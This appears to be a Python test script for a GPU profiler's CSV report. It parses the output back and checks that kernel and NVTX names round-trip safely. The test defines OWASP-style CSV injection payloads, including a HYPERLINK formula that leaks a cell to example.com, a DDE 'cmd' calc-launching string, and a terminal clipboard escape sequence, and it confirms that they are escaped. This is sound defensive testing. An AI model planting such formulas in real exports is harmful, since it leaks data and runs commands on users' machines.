#!/usr/bin/env python3
"""Parses the CSV report back with the csv module and checks it (SPEC §7).

Usage: report_csv_check.py EMITTER

EMITTER is unit_report_csv; run with `--emit HEXNAME...` it prints the CSV
of a sample run plus kernels and NVTX ranges named by the hostile names
(the same as the JSON check's), in that order of time, before the
sample's own rows.
"""
import csv
import io
import subprocess
import sys

from report_json_check import HOSTILE

# Names a spreadsheet would run (OWASP's CSV injection starts), on top of
# the JSON check's hostile bytes.
FORMULAS = [
    b'=HYPERLINK("http://example.com/?leak="&A1,"click")',
    b'+cmd|\' /C calc\'!A0',
    b'-2+3',
    b'@SUM(A1:A9)',
    b'\t=1+1',
    b'\r=1+1',
    b'esc\x1b]52;c;aGVsbG8=\x07',
]


def csv_safe(name):
    """What the CSV holds for a name: ill-formed UTF-8 replaced, control
    characters (C0, DEL, C1) as '?', a ' before a leading = + - @."""
    text = "".join("?" if ord(c) < 0x20 or 0x7f <= ord(c) <= 0x9f else c
                   for c in name.decode("utf-8", errors="replace"))
    return "'" + text if text[:1] in ("=", "+", "-", "@") else text

HEADER = ["category", "name", "calls", "total_ns", "avg_ns", "med_ns", "min_ns", "max_ns",
          "stddev_ns", "first_ns", "rest_avg_ns", "bytes", "gbps", "display_name", "clock",
          "time_pct", "pid", "host"]
CLOCKS = {"kernel": "gpu", "memcpy": "gpu", "memset": "gpu", "compile": "wall", "module": "wall",
          "nvtx": "wall", "sync": "host", "api": "host"}
CATEGORIES = ["kernel", "memcpy", "memset", "memory", "compile", "module", "sync", "nvtx",
              "nvtx_mark", "api"]

failures = []


def check(cond, what):
    if not cond:
        failures.append(what)


def is_uint(text):
    return text.isdigit() and text.isascii()


def check_row(row, where):
    check(len(row) == len(HEADER), f"{where}: {len(row)} fields")
    if len(row) != len(HEADER):
        return
    cat, name, calls, *times, nbytes, gbps, display, clock, pct, pid, host = row
    check(cat in CATEGORIES, f"{where}: category {cat!r}")
    check(is_uint(calls), f"{where}: calls {calls!r}")
    if cat == "nvtx_mark":
        # An instant: its first and last times since the start as min_ns and max_ns.
        check([t != "" for t in times] == [False, False, False, True, True, False, False, False]
              and is_uint(times[3]) and is_uint(times[4]) and int(times[3]) <= int(times[4]),
              f"{where}: mark time fields {times}")
    else:
        check(all(is_uint(t) for t in times) or all(t == "" for t in times),
              f"{where}: time fields {times}")
    check(nbytes == "" or is_uint(nbytes), f"{where}: bytes {nbytes!r}")
    if gbps:
        try:
            float(gbps)
        except ValueError:
            check(False, f"{where}: gbps {gbps!r}")
    timed = times[0] != ""
    check((gbps != "") == (cat in ("memcpy", "memset") and timed),
          f"{where}: gbps for timed transfers only")
    check(display != "" and (cat == "kernel" or display == name), f"{where}: display_name {display!r}")
    timed_row = timed and cat not in ("memory", "nvtx_mark")
    check(clock == (CLOCKS.get(cat, "") if timed_row else ""), f"{where}: clock {clock!r}")
    try:
        check((0 <= float(pct) <= 100.0005) if timed_row else pct == "", f"{where}: time_pct {pct!r}")
    except ValueError:
        check(False, f"{where}: time_pct {pct!r}")
    check(pid == "4242" and host == "node17", f"{where}: pid {pid!r} host {host!r}")


def main():
    names = HOSTILE + FORMULAS
    args = [sys.argv[1], "--emit"] + [n.hex() for n in names]
    out = subprocess.run(args, check=True, capture_output=True).stdout
    text = out.decode("utf-8")  # strict: the whole file must be valid UTF-8
    check(text.endswith("\r\n"), "records end with CRLF")
    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    check(rows and rows[0] == HEADER, f"header {rows[0] if rows else None}")
    for i, row in enumerate(rows[1:], 2):
        check_row(row, f"record {i}")
    order = [CATEGORIES.index(r[0]) for r in rows[1:] if r and r[0] in CATEGORIES]
    check(order == sorted(order), "categories out of report order")
    want = [csv_safe(n) for n in names]
    for row in rows[1:]:
        check(not any(ord(c) < 0x20 or 0x7f <= ord(c) <= 0x9f for c in "".join(row)),
              f"a control character in {row[:2]}")
        check(len(row) < 14 or all(f[:1] not in ("=", "+", "-", "@") for f in (row[1], row[13])),
              f"a formula in {row[:2]}")
    kernels = [r[1] for r in rows[1:] if r[0] == "kernel"]
    check(kernels[:len(want)] == want, "kernel names did not round-trip")
    ranges = [r[1] for r in rows[1:] if r[0] == "nvtx"]
    check(ranges[:len(want)] == want, "range names did not round-trip")
    for f in failures:
        print("FAIL:", f)
    if not failures:
        print(f"report CSV: {len(rows) - 1} records parsed back, names OK")
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
